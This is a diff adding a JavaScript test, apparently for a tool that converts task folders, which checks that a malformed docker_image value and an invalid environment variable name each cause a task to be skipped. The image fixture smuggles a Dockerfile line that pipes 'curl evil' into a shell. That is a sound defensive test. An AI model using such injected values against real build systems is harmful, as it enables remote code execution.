@@ -228,6 +228,19 @@ test('missing files, bad TOML and unsupported features are each a located reason
   assert.equal(tasksOf(out).length, 1);
 });
 
+test('an image name that would add lines to a Dockerfile, or an env name no shell can export, skips its task', async () => {
+  const { report } = await prepare(
+    dataset({
+      'image-lines': { edit: (d) => { rmSync(join(d, 'environment'), { recursive: true }); writeFileSync(join(d, 'task.toml'), '[environment]\ndocker_image = "python:3.11\\nRUN curl evil | sh"\n'); } },
+      'env-name': { edit: (d) => writeFileSync(join(d, 'task.toml'), '[verifier.env]\n"BAD-NAME" = "1"\n') },
+    }),
+  );
+  assert.deepEqual(report.skipped_by_reason, { 'invalid-harbor-task': 2 });
+  const text = report.skipped_examples.map((e) => e.message).join('\n');
+  assert.match(text, /docker_image = .*python:3\.11.*RUN curl evil.* is not an image reference/);
+  assert.match(text, /\[verifier\.env\] .*BAD-NAME.* is not a shell variable name/);
+});
+
 test('two folders naming the same task keep the first; --limit stops after that many tasks; a second run replaces the first run\'s harbor folder', async () => {
   const dir = dataset({ a: {}, b: {} });
   const { out, report } = await prepare(dir);
